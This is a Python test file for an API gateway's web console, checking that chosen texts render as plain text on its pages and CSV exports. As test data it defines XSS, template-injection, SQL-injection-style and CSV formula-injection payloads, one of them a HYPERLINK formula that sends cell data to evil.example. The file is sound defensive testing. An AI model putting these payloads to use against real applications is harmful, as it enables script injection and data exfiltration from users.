"""Texts that people and programs choose are shown whole, and nothing of them runs."""

import csv
import io
import json
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import NamedTuple
from urllib.parse import quote

import httpx
import pytest
from msgspec.structs import replace

from gateway.console.granting import grant_of, post_grant
from gateway.console.rendering import FORM_TOKEN
from gateway.core.key_policy import LABEL_CHARACTERS_MAX
from gateway.store.people import Identity, NamespaceRole
from gateway.store.sign_ins import SignIn
from tests.console.routes.table import Line, lines
from tests.console.routes.world import ACTOR, INSTALLATION, Asked, Target, World

#: of a key, as long as one may be
_LABEL = """<img src=x onerror=alert(1)>"'{{7*7}}&amp;</td>""".ljust(LABEL_CHARACTERS_MAX, "W")
_REASON = "</script><script>alert('reason')</script>\u202eright to left\n\x1b[31m&lt;" + "w" * 150
_REFERENCE = """=HYPERLINK("https://evil.example?x="&A1)"""
_NAME = """Tina "><svg onload=alert('name')> {% raise %}"""
_SUBJECT = "-1+1' OR ''='"
_MODEL = "@SUM(1+1)"
_IDEMPOTENCY_KEY = "+1'\t\u202e"
_TAGS = json.dumps({"<b>team</b>": "=1+1"})
_TEXTS = (_LABEL, _REASON, _REFERENCE, _NAME, _SUBJECT, _MODEL)
#: text by the pages on which it stands
_PLACES = {
    _LABEL: ("/keys", "/keys/{key_id}", "/usage", "/ledger", "", "/keys/{key_id}/revoke"),
    _REASON: ("/grants", "/ledger", "/accounts/{account}", "/statement", "/events"),
    _REFERENCE: (
        "/grants",
        "/ledger",
        "/accounts/{account}",
        "/statement",
        "/grants/{grant_id}/void",
    ),
    _NAME: ("/people", "/accounts/{account}", "/settings", ""),
    _SUBJECT: ("/settings",),
    _MODEL: ("/ledger", ""),
}
#: attributes of a form with something wrong in it
_OF_ERRORS = {"aria-invalid", "open"}
_FORMULAS = ("=", "+", "-", "@", "\t", "\r")


#: what a request may have in it that its answer shows again
_ECHOES = (
    "/ledger?request_id={0}&from={0}&kind={0}&model={0}",
    "/usage?model={0}&by={0}&days={0}",
    "/accounts?search={0}&after={0}",
    "/grants/new?account={0}",
    "/people/bind?subject={0}&account={0}",
    "/setup?model={0}&client={0}",
    "/sign-in?next={0}",
    "/callback?state={0}&error={0}&code={0}",
    "/start/{0}",
    "/{0}",
)


class Page(HTMLParser):
    """A page as a browser reads it: its elements, the addresses in them, and its texts."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []
        self.texts: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        for name, value in attrs:
            self.attributes.add(name)
            self.texts.append(value or "")
            if name in ("src", "href", "action"):
                self.addresses.append(value or "")

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def shows(self, text: str) -> bool:
        """True if it shows a text whole."""
        return any(text in each for each in self.texts)


class Named(NamedTuple):
    """A target and a browser that sees all of it."""

    target: Target
    browser: Asked


def named(world: World, account: str, label: str, name: str, subject: str) -> Named:
    """A target whose key, person and newest browser have these names."""
    made = world.make_target(account)
    roles = (NamespaceRole("team", "treasurer"), NamespaceRole("team", "member", account[5:]))
    who = Identity(world.issuer, subject, name, name)
    cookie, found = world.begin(SignIn(identity=who, roles=roles))
    assert found.person_id is not None
    world.bind(found.person_id, account)
    key_id, _ = world.make_key(account, label, found.person_id)
    return Named(replace(made, key_id=key_id, person=found.person_id), Asked(cookie))


@pytest.fixture(scope="module")
def odd(world: World) -> Named:
    """All texts are chosen to do harm."""
    made = named(world, "team/odd", _LABEL, _NAME, _SUBJECT)
    grant = grant_of("team/odd", 900, _REFERENCE, reason=_REASON)
    post_grant(world.database, INSTALLATION, grant, 10**6, ACTOR)
    row = world.value("SELECT id FROM credit_grant WHERE reason = %s", _REASON)
    more = {"tags": _TAGS, "idempotency_key": _IDEMPOTENCY_KEY}
    world.charge(made.target, 1, _MODEL, **more)
    return Named(replace(made.target, grant_id=row), made.browser)


@pytest.fixture(scope="module")
def harmless(world: World) -> Page:
    """All that stands on the pages of somebody with plain names, together."""
    plain = named(world, "team/plain", "plain", "Plain", "plain")
    world.charge(plain.target, 1)
    paths = [line.fill(plain.target)[0] for line in pages()]
    texts = [world.ask("GET", path, plain.browser).text for path in paths]
    return Page("".join(texts))


def pages() -> Iterator[Line]:
    """Those that are no files."""
    for line in lines():
        if line.method == "GET" and line.path != "/static/{file}" and ".csv" not in line.path:
            yield line


def is_harmless(answer: httpx.Response, harmless: Page) -> Page:
    """The page, in which no text became an element, an attribute or an address."""
    page, where = Page(answer.text), str(answer.request.url)
    assert page.elements - harmless.elements == set(), where
    assert page.attributes - harmless.attributes - _OF_ERRORS == set(), where
    ours = ("/console", "#", "data:")
    assert [each for each in page.addresses if each and not each.startswith(ours)] == [], where
    return page


@pytest.mark.parametrize("language", ["en", "zh-Hans"])
def test_every_page_shows_a_text_as_a_text(
    world: World, odd: Named, harmless: Page, language: str
) -> None:
    for line in pages():
        path, _ = line.fill(odd.target)
        answer = world.ask("GET", path, odd.browser, headers={"accept-language": language})
        page = is_harmless(answer, harmless)
        for text, places in _PLACES.items():
            assert page.shows(text) or line.path not in places, f"{path} does not show {text}"


@pytest.mark.parametrize(
    "text", _TEXTS, ids=("label", "reason", "reference", "name", "subject", "model")
)
def test_a_text_that_was_sent_is_shown_as_one(
    world: World, odd: Named, harmless: Page, text: str
) -> None:
    for path in _ECHOES:
        asked = path.format(quote(text, safe=""))
        is_harmless(world.ask("GET", asked, odd.browser), harmless)
    grant = dict.fromkeys(("account", "credits", "reference", "expires_at", "reason"), text)
    key = {"label": text * 9, "expires": text, "credits": text, "models": text, "attempt": text}
    forms = {
        "/grants": grant,
        "/keys?account=team/odd": key,
        f"/keys/{odd.target.key_id}?account=team/odd": key | {"expires_at": text},
        f"/keys/{odd.target.key_id}/revoke?account=team/odd": {"name": text + "x"},
        "/people/bind": {"issuer": text, "subject": text, "account": text},
    }
    for path, form in forms.items():
        answer = world.ask("POST", path, odd.browser, form)
        assert answer.status_code == 422, path
        is_harmless(answer, harmless)
    old = {FORM_TOKEN: "old", text: text}
    again = world.ask("POST", f"/settings?x={quote(text, safe='')}", odd.browser, old)
    assert again.status_code == 403
    assert is_harmless(again, harmless).shows(text)


def test_no_cell_of_a_file_is_a_formula(world: World, odd: Named) -> None:
    cells: list[str] = []
    for path in ("/ledger.csv?", "/usage.csv?by=key&", "/usage.csv?by=model&"):
        answer = world.ask("GET", f"{path}account=team/odd", odd.browser)
        cells += [cell for row in csv.reader(io.StringIO(answer.text, newline="")) for cell in row]
    numbers = [cell for cell in cells if cell.lstrip("-").isdigit()]
    assert [cell for cell in cells if cell.startswith(_FORMULAS) and cell not in numbers] == []
    for text in (_REFERENCE, _MODEL, _IDEMPOTENCY_KEY):
        assert f"'{text}" in cells, text
    for text in (_REASON, json.loads(_TAGS)):
        assert text in cells or json.dumps(text) in cells, text


def test_tags_are_texts_too(world: World, odd: Named, harmless: Page) -> None:
    ((name, value),) = json.loads(_TAGS).items()
    asked = f"?account=team/odd&tag={quote(name)}"
    page = is_harmless(world.ask("GET", f"/usage{asked}", odd.browser), harmless)
    assert (page.shows(name), page.shows(value)) == (True, True)
    assert f"'{value}" in world.ask("GET", f"/usage.csv{asked}", odd.browser).text


@pytest.mark.parametrize(("language", "word"), [("en", "Carried over"), ("zh-Hans", "结转")])
def test_the_sum_of_entries_that_were_moved_out_has_its_word(
    world: World, language: str, word: str
) -> None:
    target = world.make_target(f"team/moved-{language.lower()}")
    account = world.value("SELECT account_id FROM api_key WHERE key_id = %s", target.key_id)
    world.run("INSERT INTO entry (account_id, kind, credits) VALUES (%s, 'carry', 0)", account)
    browser = world.sign_in("auditor", target)
    for path in ("/ledger?account={0}", "?account={0}", "/accounts/{0}"):
        asked = path.format(target.account)
        answer = world.ask("GET", asked, browser, headers={"accept-language": language})
        assert (answer.status_code, word in answer.text) == (200, True), asked
